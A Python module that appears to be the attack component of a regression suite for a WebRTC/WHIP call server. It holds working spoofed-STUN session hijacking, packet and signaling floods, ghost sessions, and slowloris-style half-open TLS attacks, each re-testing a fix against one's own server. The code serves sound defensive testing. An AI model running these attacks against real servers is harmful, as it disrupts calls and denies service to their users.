"""The attacks of the attack suite, one a function, each run from the attacker's own
network namespace for a given number of seconds while a real call goes on. Each
prints one JSON line: what it sent and what the server did to it.

    python3 attacks.py NAME --server IP:PORT --seconds S [options]

Run by suite.py; by hand only against a server you run yourself.
"""

import argparse
import json
import random
import socket
import ssl
import sys
import threading
import time

import wire


def _pace(rate, seconds, send):
    """Calls send() `rate` times a second (in bursts every 10 ms) for `seconds`."""
    start = time.monotonic()
    sent = 0
    while True:
        now = time.monotonic() - start
        if now >= seconds:
            return sent
        due = int(now * rate) + 1
        while sent < due:
            send()
            sent += 1
        time.sleep(0.01)


def _random_source(subnet):
    a, b = subnet
    return (f"{a}.{b}.{random.randrange(128, 256)}.{random.randrange(1, 255)}",
            random.randrange(1024, 65536))


def none(o):
    """Nothing: the call alone, for comparison."""
    time.sleep(o.seconds)
    return {}


def hijack(o):
    """The attacker's own WHIP session, then binding requests with its own (valid)
    credentials from the victim's address: before the fix, the server moved the
    victim's address to the attacker's session and the victim's media stopped."""
    session = wire.WhipSession(o.host, o.port, "attacker-lobby")
    vip, vport = o.victim.rsplit(":", 1)
    spoof = wire.Spoofer()
    dst = (o.host, o.port)
    sent = _pace(o.rate or 50, o.seconds,
                 lambda: spoof.send((vip, int(vport)), dst, session.binding_request()))
    return {"sent": sent}


def stun_sources(o):
    """Valid binding requests for the attacker's own session from ever new source
    addresses: before the fix, each one grew the session's address list and made
    every request slower."""
    session = wire.WhipSession(o.host, o.port, "attacker-lobby")
    spoof = wire.Spoofer()
    dst = (o.host, o.port)
    subnet = tuple(o.host.split(".")[:2])
    sent = _pace(o.rate or 2000, o.seconds,
                 lambda: spoof.send(_random_source(subnet), dst, session.binding_request()))
    return {"sent": sent}


def unknown_ufrag(o):
    """Binding requests for sessions that do not exist, from random sources: before
    the fix, each grew the receive task's route map, for good."""
    spoof = wire.Spoofer()
    dst = (o.host, o.port)
    subnet = tuple(o.host.split(".")[:2])

    def one():
        user = f"{random.getrandbits(40):010x}:{random.getrandbits(20):05x}"
        spoof.send(_random_source(subnet), dst, wire.stun_request(user, None))

    return {"sent": _pace(o.rate or 40000, o.seconds, one)}


def ghost_whip(o):
    """WHIP sessions that never connect, as many as the server takes: before the fix
    they stayed for ever and filled rooms and memory."""
    statuses = {}
    start = time.monotonic()
    while time.monotonic() - start < o.seconds:
        try:
            status, _, _ = wire.https(
                o.host, o.port, "POST", f"/whip/{o.room or 'ghosts'}",
                wire.whip_offer("ghost", "ghostghostghostghostgh"),
                {"Content-Type": "application/sdp"},
            )
        except OSError as e:
            status = type(e).__name__
        statuses[str(status)] = statuses.get(str(status), 0) + 1
        if status != 201:
            # Refused (a limit): ask again a little later, as a script would.
            time.sleep(0.05)
    return {"statuses": statuses}


def stalled_ws(o):
    """A participant that keeps talking but never reads, while other connections of
    the attacker push large direct signals at it (several, since the server reads
    each one at --signaling-rate): before the fix it held its seat (and the server's
    buffers) for as long as TCP kept the connection."""
    stalled = wire.WebSocket(o.host, o.port, recv_buffer=4096)
    stalled.send({"type": "join", "room": o.room, "name": "stalled", "mode": "relay"})
    time.sleep(0.5)
    pushers, target = [], None
    for i in range(4):
        ws = wire.WebSocket(o.host, o.port)
        ws.send({"type": "join", "room": o.room, "name": f"pusher{i}", "mode": "relay"})
        joined = ws.recv_until("joined")
        if joined is None:
            raise RuntimeError("a pusher was not let in")
        target = next(p["id"] for p in joined["peers"] if p["name"] == "stalled")
        pushers.append(ws)
    big = json_direct(target)
    start = time.monotonic()
    removed = []

    def push(ws):
        # One thread a connection (an SSL socket is not shared between threads); a
        # send waits while the server holds this connection back.
        while not removed and time.monotonic() - start < o.seconds:
            try:
                ws.send_raw(big)
                msgs, closed = ws.drain()
            except OSError:
                return
            if any(m.get("type") == "peerLeft" and m.get("id") == target for m in msgs):
                removed.append(round(time.monotonic() - start, 1))
            if closed:
                return

    threads = [threading.Thread(target=push, args=(ws,), daemon=True) for ws in pushers]
    for t in threads:
        t.start()
    while not removed and time.monotonic() - start < o.seconds:
        try:
            # Not silent: the server hears from it, so only its not reading counts.
            stalled.send({"type": "media", "audio": True, "video": True})
        except OSError:
            pass
        time.sleep(1.0)
    removed_after = removed[0] if removed else None
    for ws in pushers:
        ws.close()
    stalled.close()
    return {"stalled_removed_after_s": removed_after}


def json_direct(to):
    return json.dumps({"type": "direct", "to": to, "signal": {"kind": "offer", "sdp": "a" * 60000}})


def direct_flood(o):
    """Large direct signals as fast as the attacker can send them, at a participant of
    the call: before the fix, the victim's queue overflowed and the server dropped
    the victim."""
    ws = wire.WebSocket(o.host, o.port)
    ws.send({"type": "join", "room": o.room, "name": "flooder", "mode": "relay"})
    joined = ws.recv_until("joined")
    if joined is None:
        raise RuntimeError("the flooder was not let in")
    target = next(p["id"] for p in joined["peers"] if p["name"] == o.victim)
    big = {"kind": "offer", "sdp": "a" * 60000}
    start = time.monotonic()
    sent = refused = 0
    while time.monotonic() - start < o.seconds:
        ws.send({"type": "direct", "to": target, "signal": big})
        sent += 1
        msgs, closed = ws.drain()
        if closed:
            break
        refused += sum(1 for m in msgs if m.get("type") == "error" and m.get("code") == "rateLimited")
    ws.close()
    return {"sent": sent, "rate_limited": refused}


def half_open(o):
    """TLS connections that send half a request's headers and then nothing, more than
    one address may hold: before the fix they were never timed out and, past the
    open-file limit, kept every new client out."""
    held, refused_at_once = [], 0
    ctx = wire.tls_context()
    for _ in range(o.count):
        try:
            raw = socket.create_connection((o.host, o.port), timeout=2)
            s = ctx.wrap_socket(raw, server_hostname=o.host)
            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: 1\r\n")
            held.append(s)
        except OSError:
            # Closed before the handshake: over the limit per address.
            refused_at_once += 1
    time.sleep(0.5)
    closed_at_once = sum(1 for s in held if _closed(s))
    time.sleep(max(0.0, o.seconds - 0.5))
    closed_by_end = sum(1 for s in held if _closed(s))
    for s in held:
        s.close()
    return {
        "opened": len(held),
        "refused": refused_at_once,
        "closed_at_once": closed_at_once,
        "closed_by_end": closed_by_end,
    }


def _closed(s):
    """Whether the server has closed `s` (reads what it sent first, e.g. a 408)."""
    s.settimeout(0.01)
    try:
        while True:
            if not s.recv(4096):
                return True
    except (socket.timeout, ssl.SSLWantReadError):
        return False
    except OSError:
        return True


ATTACKS = {f.__name__.replace("_", "-"): f for f in
           (none, hijack, stun_sources, unknown_ufrag, ghost_whip, stalled_ws, direct_flood, half_open)}


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--server", required=True, help="IP:PORT of HTTPS and UDP media")
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--rate", type=int, default=0, help="datagrams a second (floods)")
    p.add_argument("--victim", help="hijack: IP:PORT; direct-flood: a participant's name")
    p.add_argument("--room", help="the room of the call")
    p.add_argument("--count", type=int, default=300, help="half-open: connections")
    o = p.parse_args()
    o.host, port = o.server.rsplit(":", 1)
    o.port = int(port)
    result = ATTACKS[o.attack](o)
    print(json.dumps({"attack": o.attack, **result}), flush=True)


if __name__ == "__main__":
    sys.exit(main())
